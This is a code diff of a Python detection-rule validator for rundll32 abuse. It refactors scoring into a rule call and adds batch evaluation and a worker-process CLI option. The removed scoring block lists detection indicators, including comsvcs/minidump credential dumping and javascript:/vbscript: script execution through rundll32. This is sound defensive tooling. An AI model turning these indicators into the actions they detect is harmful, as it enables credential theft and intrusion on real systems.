-            matched.append("anti_abuse:traversal/escape indicator in CommandLine")
-
-        # Logic: suppress only when benign WITHOUT abuse
-        final = not (benign_match and not abuse_match)
-
-        # Confidence scoring
-        confidence = 0.0
-        if final:
-            confidence = 0.70
-            if any(s in cmdline_lower for s in [
-                "javascript:", "vbscript:", "http://", "https://",
-                "comsvcs", "minidump", "runhtmlapplication",
-            ]):
-                confidence = 0.95
-            elif any(s in cmdline_lower for s in [
-                ".dll,", "\\temp\\", "\\public\\", "\\programdata\\", "\\users\\",
-            ]):
-                confidence = 0.85
-
-            # Boosts
-            if sel_ofn and not sel_image:
-                confidence = min(confidence + 0.10, 1.0)
-                matched.append("boost:renamed_binary")
-
-            parent = self.nested_get(event, "ParentImage").lower()
-            if any(p in parent for p in self._SUSPICIOUS_PARENTS):
-                confidence = min(confidence + 0.05, 1.0)
-                matched.append("boost:suspicious_parent")
-
-        return DetectionResult(
-            event_id="", matched=final,
-            matched_conditions=matched, confidence_score=round(confidence, 2),
-        )
+        return self._rule(event)
+
+    def batch_evaluate(self, events: list[dict]) -> list[DetectionResult]:
+        return list(map(self._rule, events))
 
 
 # ═══════════════════════════════════════════════════════════════════════════════
 # CLI ENTRY POINT
 # ═══════════════════════════════════════════════════════════════════════════════
 
-def main() -> None:
+@functools.cache
+def _build_parser() -> argparse.ArgumentParser:
+    """CLI parser, built once per process; parse_args() leaves it unchanged."""
     parser = argparse.ArgumentParser(
         description=f"Detection Rule Validation Framework v{__version__}",
         formatter_class=argparse.RawDescriptionHelpFormatter,
@@ -2328,6 +3116,7 @@ Examples:
   python detection_validator.py --csv  report.csv         # Export CSV report
   python detection_validator.py --export-events out.json  # Save generated events
   python detection_validator.py --tp 20 --tn 30 --seed 7  # Custom event counts
+  python detection_validator.py --events big.json --workers 8  # 8 worker processes
 """,
     )
     parser.add_argument(
@@ -2364,7 +3153,16 @@ Examples:
     parser.add_argument("--evasion",type=int, default=5,  help="Evasion sample count (default:  5)")
     parser.add_argument("--seed",   type=int, default=42, help="Random seed (default: 42)")
     parser.add_argument("--quiet",  action="store_true",  help="Suppress console report")
-    args = parser.parse_args()
+    parser.add_argument(
+        "--workers", type=int, default=1,
+        help=(f"Worker processes for single-engine runs of {_PARALLEL_MIN_EVENTS}+ "
+              "events (default: 1 = sequential; --compare is always sequential)"),
+    )
+    return parser
+
+
+def main() -> None:
+    args = _build_parser().parse_args()
 
     # ── Load or generate events ───────────────────────────────────────────────
     if args.events:
@@ -2404,7 +3202,7 @@ Examples:
     # ── Single engine mode ────────────────────────────────────────────────────
     engine = ImprovedRundll32Engine() if args.engine == "improved" else ExampleRundll32Engine()
     runner = TestRunner(engine=engine, events=events)
-    runner.run()
+    runner.run(workers=args.workers)
 
     if not args.quiet:
         runner.print_report()   # auto-generates basic recommendations
@@ -2420,9 +3218,8 @@ Examples:
         print(f"✓ HTML report saved to {args.html}")
 
     if args.csv:
-        csv_data = runner.export_csv()
         with open(args.csv, "w", encoding="utf-8", newline="") as fh:
-            fh.write(csv_data)
+            runner.export_csv_to_file(fh)
         print(f"✓ CSV report saved to {args.csv}")
 
 